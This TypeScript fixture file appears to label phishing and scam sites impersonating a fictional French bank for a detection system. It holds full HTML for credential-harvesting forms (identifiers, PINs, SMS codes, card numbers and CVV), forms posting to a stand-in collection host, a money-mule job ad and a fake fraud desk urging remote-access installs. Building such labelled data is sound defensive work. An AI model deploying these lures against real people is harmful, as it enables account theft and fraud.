import type { LabelledSite } from '../../../labelled-site.ts';
import type { HarbourBrand } from '../brands.ts';
import { recoloured, savedBadly, screenshot } from '../drawing/alterations.ts';
import { ardessolLogo } from '../drawing/brand-logos.ts';
import { mark } from '../drawing/marks.ts';
import { photo, portrait, shown } from '../drawing/pictures.ts';
import { bureau, card, halves, landing } from '../structures/offering.ts';
import { whole, written } from '../structures/parts.ts';

const wine = '#7b1e3a';
const foot =
  '© 2026 Banque Ardessol, société anonyme au capital de 84 200 000 €. Établissement agréé. Mentions légales.';

/** Kits against the customers of the bank. */
export const atTheBank: readonly LabelledSite<HarbourBrand>[] = [
  {
    host: 'ardessoi.fr',
    label: 'impostor',
    kind: 'credential kit on a typo',
    brand: 'ardessol',
    reason: 'One letter off the domain, with the logo and a form for the identifier and the secret code.',
    foundBy: 'permutation',
    ageDays: 4,
    isClear: true,
    pages: {
      '/': written(() =>
        card({
          lang: 'fr',
          title: 'Banque Ardessol – Connexion à votre espace client',
          name: '<img class="lg" src="/assets/ardessol.png" alt="Banque Ardessol">',
          nav: ['Sécurité', 'Aide', 'Tarifs', 'Mentions légales'],
          colour: wine,
          foot,
          main: `<h1>Accédez à vos comptes</h1><p>Saisissez votre identifiant à 8 chiffres et votre code secret.</p>
<form method="post" action="/connexion.php"><input name="identifiant" placeholder="Identifiant" inputmode="numeric" maxlength="8">
<input type="password" name="code" placeholder="Code secret"><label><input type="checkbox" style="width:auto"> Mémoriser mon identifiant</label>
<button>Me connecter</button></form><small><a href="/oubli">Identifiant ou code oublié ?</a></small>`,
          side: '<p>La Banque Ardessol ne vous demandera jamais vos codes par téléphone. Vérifiez que vous êtes sur le site de votre banque avant toute saisie.</p>',
        }),
      ),
      '/assets/ardessol.png': shown(ardessolLogo),
    },
  },
  {
    host: 'xn--rdessol-1fg.com',
    label: 'impostor',
    kind: 'two-step kit on a homograph',
    brand: 'ardessol',
    reason:
      'A Cyrillic first letter; asks for the identifier, then for the code on a keypad and the texted code.',
    foundBy: 'permutation',
    ageDays: 9,
    isClear: true,
    pages: {
      '/': written(() =>
        halves({
          lang: 'fr',
          title: 'Ardessol en ligne',
          name: '<img src="/img/logo-ardessol.jpg" alt="Ardessol">',
          nav: ['Devenir client', 'Nos agences', 'Réclamations', 'Cookies'],
          colour: wine,
          foot,
          side: '<h2>Une nouvelle clé, plus sûre</h2><p>Depuis le 2 novembre, Clé Ardessol remplace la carte de codes. Activez-la en deux minutes depuis votre espace.</p>',
          main: `<h1>Bonjour</h1><p>Étape 1 sur 2 : identifiez-vous auprès de la Banque Ardessol.</p><form action="/etape-2" method="get"><label>Identifiant client</label>
<input name="id" autocomplete="username" required><label>Département de votre agence</label><select name="dep"><option>07 Ardèche</option><option>26 Drôme</option><option>42 Loire</option><option>43 Haute-Loire</option></select>
<button>Continuer</button></form>`,
        }),
      ),
      '/etape-2': written(() =>
        card({
          lang: 'fr',
          title: 'Ardessol en ligne – code secret',
          name: '<img class="lg" src="/img/logo-ardessol.jpg" alt="Ardessol">',
          nav: ['Aide'],
          colour: wine,
          foot,
          main: '<h1>Votre code secret</h1><form method="post" action="/fin"><input type="password" name="pin" maxlength="6"><label>Code reçu par SMS</label><input name="otp" autocomplete="one-time-code"><button>Valider</button></form>',
        }),
      ),
      '/img/logo-ardessol.jpg': shown(savedBadly(ardessolLogo)),
      '/side.jpg': shown(
        photo({ seed: 11, colours: ['#f3c58a', '#b0607a', '#3d1f33'], width: 700, height: 900 }),
      ),
    },
  },
  {
    host: 'espace-client-ardessol.com',
    label: 'impostor',
    kind: 'update of personal data',
    brand: 'ardessol',
    reason:
      'The words of the customer area before the name; asks for the whole identity, the card and the code.',
    foundBy: 'certificate',
    isClear: true,
    pages: {
      '/': written(() =>
        bureau({
          lang: 'fr',
          title: 'Mise à jour de votre dossier | Banque Ardessol',
          name: '<img src="/media/logo.jpg" alt=""><h2>Espace client sécurisé</h2>',
          nav: ['Accueil', 'Mon dossier', 'Mes cartes', 'Mes virements', 'Messagerie', 'Déconnexion'],
          colour: wine,
          foot: `${foot} <a href="/confidentialite">Protection des données</a>`,
          main: `<h1>Connaissance client : votre dossier expire dans 48 heures</h1><p>Conformément à la réglementation sur la lutte contre le blanchiment, la Banque Ardessol doit actualiser
les informations de ses clients tous les deux ans. Sans réponse de votre part, vos virements et votre carte seront suspendus.</p>
<form method="post" action="/dossier/envoi"><label>Nom et prénom</label><input name="nom"><label>Date de naissance</label><input name="ddn" placeholder="JJ/MM/AAAA"><label>Téléphone portable</label><input name="tel">
<label>Numéro de carte</label><input name="cc" inputmode="numeric"><label>Expiration</label><input name="exp"><label>Cryptogramme</label><input name="cvv" maxlength="3"><label>Code d'accès à la banque en ligne</label><input type="password" name="code">
<button>Actualiser mon dossier</button></form>`,
          side: '<b>Pourquoi cette demande ?</b><p>Votre dernière mise à jour date de 2024. La loi nous oblige à conserver des données exactes.</p><p>Temps estimé : 3 minutes.</p>',
        }),
      ),
      '/media/logo.jpg': shown(savedBadly(ardessolLogo)),
    },
  },
  {
    host: 'ardessol.acces-securise-clients.net',
    label: 'impostor',
    kind: 'kit on a subdomain',
    brand: 'ardessol',
    reason:
      'The name is only a label of an unrelated domain; the wordmark is set in text, without any picture.',
    foundBy: 'certificate',
    ageDays: 17,
    isClear: true,
    pages: {
      '/': written(() =>
        whole(
          {
            lang: 'fr',
            title: 'Ardessol | Authentification',
            name: '',
            nav: [],
            main: '',
            foot: '',
            colour: wine,
          },
          `body{margin:0;font:16px 'DejaVu Sans',sans-serif;background:linear-gradient(#7b1e3a 240px,#f7efe2 240px)}.w{font:bold 46px 'DejaVu Serif',Georgia,serif;color:#f7efe2;padding:44px 0 0 9%}
.w span{display:block;font:13px sans-serif;letter-spacing:6px;color:#f2c14e}.f{margin:60px 9%;background:#fff;padding:36px;max-width:520px}.f input{display:block;width:90%;padding:12px;margin:8px 0 18px;font-size:18px;border:1px solid #b8a}.f button{background:#7b1e3a;color:#fff;border:0;padding:14px 40px}`,
          `<div class="w">Ardessol<span>BANQUE RÉGIONALE</span></div><div class="f"><h2>Opération en attente</h2><p>Un paiement de <b>489,90 €</b> chez « ÉLECTRO-PLUS LYON » a été initié depuis un nouvel appareil le 23/11/2026 à 21 h 14.
Si vous n'êtes pas à l'origine de cette opération, annulez-la immédiatement.</p><form method="post" action="/annuler"><label>Identifiant Ardessol</label><input name="u"><label>Mot de passe</label><input name="p" type="password"><label>Code reçu par SMS</label><input name="sms" autocomplete="one-time-code"><button>Annuler l'opération</button></form>
<p><small>Cette page est sécurisée par la Banque Ardessol. Ne la fermez pas avant la fin de la procédure.</small></p></div>`,
        ),
      ),
    },
  },
  {
    host: 'menuiserie-corbillon.fr',
    label: 'impostor',
    kind: 'kit in a folder of a hacked site',
    brand: 'ardessol',
    reason:
      'The joiner knows nothing of it: the folder asks for the codes of the bank under its logo in other colours.',
    foundBy: 'report',
    ageDays: 4118,
    isClear: true,
    entry: '/wp-includes/js/ardessol/verif/',
    pages: {
      '/wp-includes/js/ardessol/verif/': written(() =>
        card({
          lang: 'fr',
          title: 'Banque Ardessol : vérification',
          name: '<img class="lg" src="l.png">',
          nav: ['Assistance', 'Sécurité'],
          colour: '#2b4a7b',
          foot: 'Banque Ardessol 2026',
          main: `<h1>Votre carte est bloquée</h1><p>Pour la débloquer, confirmez votre identité. Aucun déplacement en agence n'est nécessaire.</p><form action="post.php" method="post">
<input name="a" placeholder="Identifiant"><input name="b" type="password" placeholder="Code à 6 chiffres"><input name="c" placeholder="Numéro de téléphone"><button>Débloquer ma carte</button></form>`,
        }),
      ),
      '/wp-includes/js/ardessol/verif/l.png': shown(recoloured(ardessolLogo, 230)),
      '/': written(() =>
        landing({
          lang: 'fr',
          title: 'Menuiserie Corbillon, fenêtres et escaliers sur mesure',
          name: '<img src="/logo.png" alt="Menuiserie Corbillon">',
          nav: ['Fenêtres', 'Escaliers', 'Réalisations', 'Contact'],
          colour: '#8a5a2b',
          main: '<div class="hero"><h1>Le bois, depuis trois générations</h1><p>Fenêtres, portes et escaliers fabriqués dans notre atelier de Saint-Romain.</p></div>',
          foot: 'Menuiserie Corbillon SARL, 12 route du Pont, 42640 Saint-Romain',
        }),
      ),
      '/logo.png': shown(mark({ word: 'Corbillon', colour: '#8a5a2b', shape: 'house' })),
    },
  },
  {
    host: 'ardessol-verif.weebly.com',
    label: 'impostor',
    kind: 'kit on free hosting',
    brand: 'ardessol',
    reason: 'A free page in three languages whose form posts the codes to a host elsewhere.',
    foundBy: 'report',
    isClear: true,
    pages: {
      '/': written((link) =>
        card({
          lang: 'fr',
          title: 'Ardessol – Vérification / Verification / Verifica',
          name: '<img class="lg" src="/ardessol.svg.png" alt="Ardessol">',
          nav: ['Français', 'English', 'Italiano'],
          colour: wine,
          foot: '© Ardessol',
          main: `<h1>Vérifiez votre compte</h1><p lang="fr">Entrez vos accès pour réactiver votre espace Ardessol.</p><p lang="en">Enter your details to restore your Ardessol account.</p><p lang="it">Inserisci le credenziali per riattivare il conto Ardessol.</p>
<form method="post" action="${link('formdrop-relay.top', '/in/8841')}"><input name="login" placeholder="Identifiant / User ID / Utente"><input name="pwd" type="password" placeholder="Code / Password"><button>OK</button></form>`,
        }),
      ),
      '/ardessol.svg.png': shown(ardessolLogo),
    },
  },
  {
    host: 'acces-comptes-2026.info',
    label: 'impostor',
    kind: 'page that is one picture',
    brand: 'ardessol',
    reason:
      'The whole sign-in page of the bank as one picture, which leads to a form for the codes elsewhere.',
    foundBy: 'report',
    ageDays: 2,
    leadsTo: { host: 'formdrop-relay.top', path: '/saisie' },
    pages: {
      '/': written(
        (link) =>
          `<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>Connexion</title></head><body style="margin:0;text-align:center;background:#f3f5f7"><a href="${link('formdrop-relay.top', '/saisie')}"><img src="/page.png" style="max-width:100%"></a></body></html>`,
      ),
      '/page.png': shown(
        screenshot({
          logo: ardessolLogo,
          colour: wine,
          lines: [
            'Espace client Banque Ardessol',
            '_Identifiant',
            '_Code secret',
            '>Se connecter',
            'Code oublié ?',
          ],
        }),
      ),
    },
  },
  {
    host: 'ardessol-recrute.com',
    label: 'impostor',
    kind: 'fake job',
    brand: 'ardessol',
    reason:
      'Offers a job at the bank that does not exist, for an identity card, an IBAN and a chat by messenger.',
    foundBy: 'search',
    pages: {
      '/': written(() =>
        landing({
          lang: 'fr',
          title: 'Ardessol recrute : conseillers à domicile (H/F)',
          name: '<img src="/logo.png" alt="Ardessol">',
          nav: ['Nos métiers', 'Postuler', 'Témoignages', 'FAQ'],
          colour: wine,
          main: `<div class="hero"><h1>Travaillez pour la Banque Ardessol depuis chez vous</h1><p>2 450 € nets par mois, 25 heures par semaine, sans diplôme. Nous recrutons 120 assistants de paiement partout en France.</p>
<form method="post" enctype="multipart/form-data" action="/candidature"><input name="nom" placeholder="Nom complet"><input name="tel" placeholder="Téléphone (WhatsApp)"><input name="iban" placeholder="IBAN pour le versement du salaire"><label>Pièce d'identité recto verso <input type="file" name="cni"></label><label>Selfie avec la pièce <input type="file" name="selfie"></label><button class="cta">Envoyer ma candidature</button></form></div>
<div class="grid"><div><img src="/claire.jpg" alt=""><h3>Claire M.</h3><p>« J'ai reçu mon matériel en trois jours. Je valide les virements des clients et je les transmets, c'est très simple. »</p></div><div><h3>Vos missions</h3><p>Recevoir des fonds sur votre compte, les vérifier, puis les envoyer au siège par virement instantané ou en crypto-monnaie.</p></div><div><h3>Contact</h3><p>Écrivez à notre responsable RH sur WhatsApp : +33 7 56 83 02 19, ou sur Telegram @ardessol_rh.</p></div></div>`,
          side: '<p>Aucune expérience n’est demandée. Une caution de 60 € pour le téléphone professionnel vous sera remboursée avec le premier salaire.</p>',
          foot,
        }),
      ),
      '/logo.png': shown(ardessolLogo),
      '/claire.jpg': shown(portrait(21, '#eabf9f', '#6b3b1f', '#7b1e3a')),
    },
  },
  {
    host: 'ardessol-assistance-fraude.fr',
    label: 'impostor',
    kind: 'fake support line',
    brand: 'ardessol',
    reason: 'A false fraud desk of the bank that wants to be called, and to see the screen of its victims.',
    foundBy: 'search',
    pages: {
      '/': written(() =>
        whole(
          {
            lang: 'fr',
            title: 'Service anti-fraude Ardessol 24h/24',
            name: '',
            nav: [],
            main: '',
            foot: '',
            colour: wine,
          },
          'body{margin:0;font:18px/1.5 Arial,sans-serif}.al{background:#b00020;color:#fff;padding:16px;text-align:center}.c{max-width:900px;margin:20px auto;padding:0 20px}.tel{display:block;background:#138a36;color:#fff;font-size:40px;text-align:center;padding:24px;border-radius:12px;text-decoration:none}img{height:90px}',
          `<div class="al">⚠ Activité suspecte signalée sur des comptes Ardessol cette semaine</div><div class="c"><img src="/a.png" alt="Banque Ardessol"><h1>Service anti-fraude de la Banque Ardessol</h1>
<p>Vous avez reçu un SMS au sujet d'un virement que vous n'avez pas effectué ? Ne contactez pas votre agence, les lignes sont saturées. Nos agents bloquent l'opération avec vous en moins de dix minutes.</p>
<a class="tel" href="tel:+33974990187">09 74 99 01 87</a><h2>Comment se déroule l'appel</h2><ol><li>L'agent vérifie votre identité et votre identifiant client.</li><li>Vous installez l'outil de prise en main à distance qu'il vous indique.</li><li>Il transfère vos avoirs sur un compte protégé à votre nom.</li></ol>
<p>Gardez votre carte bancaire et votre téléphone près de vous. Numéro non surtaxé, sept jours sur sept.</p><p><small>Banque Ardessol, direction de la sécurité. Toute conversation est enregistrée.</small></p></div>`,
        ),
      ),
      '/a.png': shown(ardessolLogo),
    },
  },
];
